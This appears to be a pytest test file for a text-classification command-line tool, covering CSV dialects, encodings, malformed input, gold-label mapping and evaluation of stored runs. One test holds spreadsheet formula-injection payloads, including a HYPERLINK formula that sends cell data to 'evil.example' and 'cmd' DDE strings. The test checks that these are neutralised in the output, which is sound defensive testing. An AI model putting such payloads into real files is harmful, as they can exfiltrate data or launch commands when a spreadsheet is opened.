"""``driftless classify`` and ``eval`` on hostile and broken files, on a scripted classifier.

The model's own behaviour on the command line is tested (slow) in
tests/unit/classify/test_model.py; here the workbench is replaced by one whose classifier
records every text it is given, so what reaches the model is checked exactly.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
from collections.abc import Sequence
from pathlib import Path
from types import SimpleNamespace
from typing import Any, ClassVar

import numpy as np
import pytest

from app.cli import classify as classify_cmd
from app.cli import classify_output, main
from app.core.cancel import CancelToken
from app.core.classify.classifier import Classifier, ClassifierInfo, Prediction, make_prediction
from app.core.classify.errors import HeadError
from app.core.classify.labels import LabelSet
from app.core.classify.library import LabelSetLibrary
from app.core.classify.runs import RunStore
from app.core.classify.workbench import Workbench
from app.core.paths import Paths
from tests.unit.classify.sst2 import OracleClassifier, sst2_rows, write_sst2

SENTENCES = [
    ("a gripping, moving film", "1"),
    ("dull; too long, and badly acted", "0"),
    ('the "twist" is obvious', "0"),
    ("warm, funny and wise", "1"),
    ("caf\u00e9 society is charming", "1"),
    ("an \u00e9pisode too far", "0"),
]
POSITIVE_WORDS = ("gripping", "warm", "charming")


class KeywordClassifier(Classifier):
    """ "positive" when a text holds a kind word; remembers every text it was given."""

    def __init__(self, label_set: LabelSet, seen: list[str]) -> None:
        self.label_set = label_set
        self.info = ClassifierInfo(
            method="prompt",
            label_set=label_set.version_id,
            labels=label_set.label_names,
            model_id="scripted",
            lock_id="scripted@1/model.gguf",
            threshold=0.5,
        )
        self.seen = seen

    def predict(self, texts: Sequence[str], cancel: CancelToken | None = None) -> list[Prediction]:
        self.seen.extend(texts)
        return [
            make_prediction(
                self.label_set.label_names,
                np.array([0.2, 0.8] if any(w in t for w in POSITIVE_WORDS) else [0.9, 0.1]),
                self.info.threshold,
                False,
            )
            for t in texts
        ]


class FakeWorkbench:
    """The CLI's view of a workbench, without a model."""

    seen: ClassVar[list[str]] = []

    def __init__(self, paths: Paths, _store: object) -> None:
        self.runs = RunStore.for_paths(paths)
        self.library = LabelSetLibrary.for_paths(paths)

    def __enter__(self) -> FakeWorkbench:
        return self

    def __exit__(self, *_exc: object) -> None:
        self.runs.close()

    def open_model(self, ref: str | None, **_kw: Any) -> SimpleNamespace:
        return SimpleNamespace(model_id="scripted", weights_note=None, reader="decoder")

    def classifier(self, label_set: LabelSet, _options: object, **_kw: Any) -> Classifier:
        return KeywordClassifier(label_set, self.seen)


@pytest.fixture
def seen(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    texts: list[str] = []
    monkeypatch.setattr(FakeWorkbench, "seen", texts)
    monkeypatch.setattr(classify_cmd, "Workbench", FakeWorkbench)
    monkeypatch.setattr(classify_cmd, "open_store", lambda: None)
    return texts


def write_table(
    path: Path,
    delimiter: str = ",",
    encoding: str = "utf-8",
    newline: str = "\n",
    rows: Sequence[tuple[str, str]] = SENTENCES,
) -> Path:
    with path.open("w", encoding=encoding, newline="") as handle:
        writer = csv.writer(handle, delimiter=delimiter, lineterminator=newline)
        writer.writerow(["text", "label"])
        writer.writerows(rows)
    return path


def classify(source: Path, *extra: str) -> int:
    args = ["classify", "--labels", "negative,positive", "--input", str(source), *extra]
    return main(args)


def output_rows(path: Path) -> list[dict[str, str]]:
    """The results, in whichever dialect they were written (the input's)."""
    text = path.read_text(encoding="utf-8-sig")
    delimiter = next(d for d in ("\t", ";", ",") if d in text.splitlines()[0])
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_results_keep_the_inputs_delimiter_bom_and_line_ends(
    tmp_path: Path, seen: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    """Excel in Germany saves semicolons, a BOM and CRLF; it opens results the same way."""
    source = tmp_path / "bewertungen.csv"
    rows = [("Clichés überall, schade", "0"), ("Großartig; wirklich", "1")]
    source.write_bytes(
        codecs.BOM_UTF8
        + "".join(f'"{a}";{b}\r\n' for a, b in [("text", "label"), *rows]).encode("utf-8")
    )
    out = tmp_path / "ergebnisse.csv"
    assert classify(source, "--output", str(out)) == 0
    data = out.read_bytes()
    assert data.startswith(codecs.BOM_UTF8 + b"row;line;text;gold;label;")
    assert data.count(b"\r\n") == 3 and data.replace(b"\r\n", b"").count(b"\n") == 0
    assert [(r["text"], r["gold"]) for r in output_rows(out)] == rows
    # An export of the same run later is laid out the same way.
    again = tmp_path / "again.csv"
    assert main(["classify", "--export-run", "1", "--output", str(again)]) == 0
    assert again.read_bytes() == data


def test_results_of_a_plain_comma_file_stay_plain(
    tmp_path: Path, seen: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    source = write_table(tmp_path / "plain.csv")
    out = tmp_path / "out.csv"
    assert classify(source, "--output", str(out)) == 0
    data = out.read_bytes()
    assert data.startswith(b"row,line,text,gold,label,") and b"\r" not in data


@pytest.mark.parametrize(
    ("delimiter", "name", "described"),
    [("\t", "tickets.csv", "tab-separated"), (";", "excel-fr.csv", "semicolon-separated")],
)
def test_the_gold_label_never_reaches_the_prompt_whatever_the_delimiter(
    tmp_path: Path,
    seen: list[str],
    capsys: pytest.CaptureFixture[str],
    delimiter: str,
    name: str,
    described: str,
) -> None:
    source = write_table(tmp_path / name, delimiter)
    out = tmp_path / "out.csv"
    assert classify(source, "--output", str(out)) == 0
    err = capsys.readouterr().err
    assert f"Reading {name} as {described}, UTF-8: texts in 'text', gold labels in 'label'" in err
    assert seen == [text for text, _ in SENTENCES]
    rows = output_rows(out)
    assert [(r["text"], r["gold"]) for r in rows] == SENTENCES
    labels = ["positive", "negative", "negative", "positive", "positive", "negative"]
    assert [r["label"] for r in rows] == labels


def test_a_latin1_file_is_named_then_read_with_encoding(
    tmp_path: Path, seen: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    source = write_table(tmp_path / "latin.csv", encoding="latin-1")
    assert classify(source) == 1
    err = capsys.readouterr().err
    assert "latin.csv is not UTF-8 text: it looks like Latin-1 (or Windows-1252)" in err
    assert "Or pass --encoding latin-1." in err
    assert seen == []
    out = tmp_path / "out.csv"
    assert classify(source, "--encoding", "latin-1", "--output", str(out)) == 0
    assert "as comma-separated, latin-1" in capsys.readouterr().err
    assert [r["text"] for r in output_rows(out)] == [text for text, _ in SENTENCES]


def test_an_unterminated_quote_is_an_error_naming_its_line_and_nothing_is_stored(
    tmp_path: Path, seen: list[str], capsys: pytest.CaptureFixture[str], paths: Paths
) -> None:
    rows = "".join(f"review number {i},{i % 2}\n" for i in range(10))
    source = tmp_path / "quote.csv"
    source.write_text(f'text,label\nfine,1\n"broken start,0\n{rows}', encoding="utf-8")
    assert classify(source) == 1
    err = capsys.readouterr().err
    assert "line 3: opens a quote that is never closed" in err
    assert seen == [] and RunStore.for_paths(paths).list_runs() == []


def test_a_file_where_no_row_is_usable_exits_1(
    tmp_path: Path, seen: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "empty-texts.csv"
    source.write_text("text,label\n,1\n  ,0\n", encoding="utf-8")
    assert classify(source) == 1
    assert "has no usable rows (2 malformed, e.g. line 2" in capsys.readouterr().err


def test_cr_only_line_endings_are_read(
    tmp_path: Path, seen: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    source = write_table(tmp_path / "classic-mac.csv", newline="\r")
    out = tmp_path / "out.csv"
    assert classify(source, "--output", str(out)) == 0
    assert [(r["line"], r["text"]) for r in output_rows(out)] == [
        (str(i + 2), text) for i, (text, _) in enumerate(SENTENCES)
    ]


def test_formulas_are_neutralised_in_the_output_but_not_in_the_prompt(
    tmp_path: Path, seen: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = [
        ('=HYPERLINK("http://evil.example/?"&A1,"warm thanks")', "1"),
        ("+cmd|' /C calc'!A0", "0"),
        ("-2+3+cmd|' /C calc'!A0", "0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "-1"),
        ("a plain complaint", "-1"),
    ]
    source = write_table(tmp_path / "tickets.csv", rows=hostile)
    out = tmp_path / "out.csv"
    assert classify(source, "--output", str(out)) == 0
    assert seen == [text for text, _ in hostile]  # the model read them as they are
    rows = output_rows(out)
    assert [r["text"] for r in rows] == [
        "'" + text if text[0] in "=+-@" else text for text, _ in hostile
    ]
    assert [r["gold"] for r in rows] == ["1", "0", "0", "-1", "-1"]  # numbers stay numbers
    assert classify(source) == 0  # results on stdout are written the same way
    stdout = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert stdout[1][2] == "'" + hostile[0][0]


def test_eval_reads_a_semicolon_latin1_file_with_encoding(
    tmp_path: Path, seen: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    source = write_table(tmp_path / "gold.csv", ";", encoding="cp1252")
    command = ["eval", "--labels", "negative,positive", "--input", str(source), "--json"]
    assert main(command) == 1
    assert "Or pass --encoding latin-1." in capsys.readouterr().err
    assert main([*command, "--encoding", "cp1252"]) == 1  # 0/1 are not label names
    assert 'Pass --gold-map "0=negative,1=positive"' in capsys.readouterr().err
    assert main([*command, "--encoding", "cp1252", "--gold-map", "0=negative,1=positive"]) == 0
    captured = capsys.readouterr()
    assert "Reading gold.csv as semicolon-separated, cp1252" in captured.err
    report = json.loads(captured.out)
    assert report["n"] == 6 and report["accuracy"] == 1.0


# --- gold values that are not label names, and evaluating a stored run ------------------


@pytest.fixture
def oracle(monkeypatch: pytest.MonkeyPatch, seen: list[str]) -> list[tuple[str, str]]:
    """SST-2 rows, and a workbench whose classifier knows them (right on 4 rows of 5)."""
    rows = sst2_rows(100)

    def classifier(self: FakeWorkbench, label_set: LabelSet, *_a: Any, **_kw: Any) -> Classifier:
        return OracleClassifier(label_set, dict(rows), self.seen)

    monkeypatch.setattr(FakeWorkbench, "classifier", classifier, raising=False)
    return rows


def test_eval_refuses_numeric_gold_without_a_map_then_scores_with_it(
    tmp_path: Path,
    oracle: list[tuple[str, str]],
    seen: list[str],
    capsys: pytest.CaptureFixture[str],
) -> None:
    source = write_sst2(tmp_path / "sst2.tsv", oracle)
    command = ["eval", "--label-set", "sentiment", "--input", str(source), "--json"]
    assert main(command) == 1
    err = capsys.readouterr().err
    zeros = sum(1 for _, g in oracle if g == "0")
    assert "are not label names of sentiment (positive, negative, neutral)" in err
    assert f"0 ({zeros:,} rows)" in err
    assert 'Pass --gold-map "0=negative,1=positive"' in err
    assert seen == []  # refused before anything was classified

    assert main([*command, "--gold-map", "0=negative,1=positive"]) == 0
    captured = capsys.readouterr()
    assert "Gold values read as 0=negative,1=positive." in captured.err
    report = json.loads(captured.out)
    assert report["n"] == len(oracle) and report["accuracy"] == pytest.approx(0.8)
    assert report["gold_map"] == "0=negative,1=positive"

    assert main([*command, "--gold-map", "0=negativ"]) == 1
    assert "'negativ', which is not a label of sentiment" in capsys.readouterr().err


def test_teaching_from_numeric_labels_needs_a_map_too(
    tmp_path: Path,
    oracle: list[tuple[str, str]],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    taught: list[tuple[Any, str]] = []

    def teach(self: FakeWorkbench, label_set: LabelSet, examples: Any, **kw: Any) -> None:
        taught.append((examples, kw["gold_map"]))
        raise HeadError("stopped after reading the examples")

    monkeypatch.setattr(FakeWorkbench, "teaching_set", Workbench.teaching_set, raising=False)
    monkeypatch.setattr(FakeWorkbench, "saved_head", lambda *a: None, raising=False)
    monkeypatch.setattr(FakeWorkbench, "teach", teach, raising=False)
    source = write_sst2(tmp_path / "sst2.tsv", oracle)
    named = [(t, "negative" if g == "0" else "positive") for t, g in oracle[:10]]
    gold = write_sst2(tmp_path / "named.tsv", named)
    command = ["eval", "--label-set", "sentiment", "--input", str(gold), "--train", str(source)]
    assert main(command) == 1
    assert 'Pass --train-gold-map "0=negative,1=positive"' in capsys.readouterr().err
    assert taught == []
    assert main([*command, "--train-gold-map", "0=negative,1=positive"]) == 1
    examples, gold_map = taught[0]
    assert gold_map == "0=negative,1=positive"
    names = ("positive", "negative", "neutral")
    assert [(t, names[i]) for t, i in examples] == [
        (t, "negative" if g == "0" else "positive") for t, g in oracle
    ]


def test_a_finished_run_is_evaluated_from_its_stored_results(
    tmp_path: Path,
    oracle: list[tuple[str, str]],
    seen: list[str],
    capsys: pytest.CaptureFixture[str],
) -> None:
    source = write_sst2(tmp_path / "sst2.tsv", oracle)
    out = tmp_path / "out.csv"
    command = ["classify", "--label-set", "sentiment", "--input", str(source)]
    assert main([*command, "--output", str(out)]) == 0
    assert "driftless eval --run 1 scores it" in capsys.readouterr().err
    classified = len(seen)

    assert main(["eval", "--run", "1", "--json"]) == 1
    assert 'Pass --gold-map "0=negative,1=positive"' in capsys.readouterr().err
    assert main(["eval", "--run", "1", "--gold-map", "0=negative,1=positive", "--json"]) == 0
    captured = capsys.readouterr()
    report = json.loads(captured.out)
    assert report["accuracy"] == pytest.approx(0.8) and report["run"] == 1
    assert "from its stored results" in captured.err
    assert len(seen) == classified  # nothing was classified again
    # Another map is another evaluation, recorded beside the first.
    assert main(["eval", "--run", "1", "--gold-map", "0=positive,1=negative", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["accuracy"] == pytest.approx(0.2)

    assert main(["classify", "--list-runs"]) == 0
    listing = capsys.readouterr().out
    assert "sst2.tsv" in listing and "sentiment" in listing and "0.200" in listing
    assert main(["eval", "--run", "1", "--input", str(source)]) == 1
    assert "leave out --input" in capsys.readouterr().err
    assert main(["classify", "--export-run", "1", "--output", str(tmp_path / "again.csv")]) == 0
    assert len(output_rows(tmp_path / "again.csv")) == len(oracle)


def test_a_run_without_gold_labels_cannot_be_evaluated(
    tmp_path: Path, seen: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "texts.csv"
    source.write_text("text\nwarm and kind\ncold\n", encoding="utf-8")
    assert classify(source, "--output", str(tmp_path / "out.csv")) == 0
    capsys.readouterr()
    assert main(["eval", "--run", "1"]) == 1
    assert "classified without a gold-label column" in capsys.readouterr().err


def test_layout_excel_writes_for_excel_in_the_locale_and_plain_writes_plain(
    tmp_path: Path, seen: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    source = write_table(tmp_path / "plain.csv")
    out = tmp_path / "out.csv"
    monkeypatch.setattr(classify_output, "locale_decimal_point", lambda: ",")  # Germany
    assert classify(source, "--output", str(out), "--layout", "excel") == 0
    data = out.read_bytes()
    assert data.startswith(codecs.BOM_UTF8 + b"row;line;text;gold;label;")
    assert data.count(b"\r\n") == len(SENTENCES) + 1
    (first, *_rest) = output_rows(out)
    assert "," in first["confidence"] and "." not in first["confidence"]
    # An export of the run later, for Excel where the decimal mark is a point: commas.
    monkeypatch.setattr(classify_output, "locale_decimal_point", lambda: ".")
    again = tmp_path / "again.csv"
    assert main(["classify", "--export-run", "1", "--output", str(again), "--layout", "excel"]) == 0
    assert again.read_bytes().startswith(codecs.BOM_UTF8 + b"row,line,text,gold,label,")
    assert main(["classify", "--export-run", "1", "--output", str(again), "--layout", "plain"]) == 0
    plain = again.read_bytes()
    assert plain.startswith(b"row,line,text,gold,label,") and b"\r" not in plain
